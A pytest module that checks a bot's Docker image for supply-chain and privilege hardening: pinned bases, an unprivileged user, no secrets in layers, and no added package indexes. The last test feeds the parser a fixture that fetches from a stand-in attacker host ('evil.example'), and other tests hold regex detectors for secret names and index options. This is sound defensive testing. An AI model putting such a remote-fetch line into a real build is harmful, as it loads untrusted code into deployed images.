"""The image: pinned, without a secret, run by a user of its own. That its steps work is proven by .ci/image, where an engine is."""

import re
from pathlib import Path

import pytest

from bot.settings import Settings
from tests.deploy.dockerfile import ROOT, read_dockerfile

STAGES = read_dockerfile()
LAST = STAGES[-1]
TEXT = (ROOT / "Dockerfile").read_text(encoding="utf-8")
PLACES = ("Dockerfile", "compose.yaml", "deploy", ".ci", "Makefile", "pyproject.toml", "constraints.txt")


def test_every_base_is_slim_with_a_pinned_minor_version_that_the_project_supports() -> None:
    for stage in STAGES:
        assert re.fullmatch(r"python:3\.\d+-slim", stage.base)
    assert len({stage.base for stage in STAGES}) == 1  # the environment is carried over as it is


def test_the_bot_runs_as_a_fixed_user_without_rights_who_owns_the_data_alone() -> None:
    (user,) = LAST.all("USER")
    assert user.rest == "10001:10001"
    owned = [step for step in LAST.all("COPY") if "chown" in step.flags]
    assert [(step.words[-1], step.flags["chown"]) for step in owned] == [("data", user.rest)]
    assert [step.words for step in LAST.all("VOLUME")] == [["/app/data"]]
    assert LAST.steps.index(user) > max(LAST.steps.index(step) for step in LAST.all("COPY"))


def test_it_is_started_stopped_and_asked_without_a_shell() -> None:
    assert [step.words for step in LAST.all("ENTRYPOINT")] == [["python", "-m", "bot"]]
    assert [step.words for step in LAST.all("CMD")] == [["run"]]
    assert [step.rest for step in LAST.all("STOPSIGNAL")] == ["SIGTERM"]
    (health,) = LAST.all("HEALTHCHECK")
    assert health.words[:2] == ["python", "-c"]
    assert "/healthz" in health.words[2]
    compile(health.words[2], "HEALTHCHECK", "exec")


def test_no_setting_of_the_bot_and_no_secret_is_in_a_layer() -> None:
    given = {name for stage in STAGES for step in stage.all("ENV") for name in step.pairs}
    assert not {name.upper() for name in Settings.model_fields} & given
    assert not re.search(r"TOKEN|SECRET|PASSWORD|PERSON_KEY|\bARG\b|\bADD\b", TEXT)


def test_only_what_is_named_is_sent_to_the_build() -> None:
    lines = _lines(ROOT / ".dockerignore")
    assert lines[0] == "*"
    named = {line.lstrip("!") for line in lines[1:] if line.startswith("!")}
    copied = {word for step in STAGES[0].all("COPY") for word in step.words[:-1]}
    assert named == copied
    assert not any(name.startswith((".", "data")) for name in named)


def test_what_is_installed_is_pinned() -> None:
    pinned = {
        line.partition("==")[0].lower().replace("_", "-")
        for line in (ROOT / "constraints.txt").read_text(encoding="utf-8").splitlines()
        if "==" in line
    }
    asked = re.findall(
        r'^    "([A-Za-z0-9-]+)',
        (ROOT / "pyproject.toml").read_text(encoding="utf-8").partition("bench")[0],
        re.MULTILINE,
    )
    assert {name.lower() for name in asked} | {"setuptools"} <= pinned
    assert STAGES[0].all("ENV")[0].pairs["PIP_CONSTRAINT"] == "/build/constraints.txt"
    installs = [
        part for step in STAGES[0].all("RUN") for part in step.rest.split("&&") if part.strip().startswith("pip")
    ]
    assert all("--no-build-isolation" in part or "--no-index" in part or "setuptools" in part for part in installs)
    assert all(re.fullmatch(r"[\w.-]+==[\w.]+", line) for line in _lines(ROOT / "constraints.txt"))


def test_no_index_and_no_registry_is_named() -> None:
    """Whoever installs decides that; a second index beside the first is how foreign packages slip in."""
    for place in PLACES:
        for path in [ROOT / place, *(ROOT / place).rglob("*")]:
            if path.is_file():
                text = path.read_text(encoding="utf-8")
                assert not re.search(r"index-url|find-links (?!/wheels)|trusted-host|PIP_INDEX", text), path
    compose = (ROOT / "compose.yaml").read_text(encoding="utf-8")
    images = [stage.base for stage in STAGES] + re.findall(r"image: (\S+)", compose)
    assert len(images) == len(STAGES) + 3
    assert not any("." in image.partition("/")[0].partition(":")[0] for image in images)  # a host has a dot


def _lines(path: Path) -> list[str]:
    return [line for line in path.read_text(encoding="utf-8").splitlines() if not line.startswith("#")]


def test_an_instruction_that_is_not_known_is_refused() -> None:
    with pytest.raises(ValueError, match="ADD"):
        read_dockerfile("FROM x\nADD https://evil.example/x /\n")
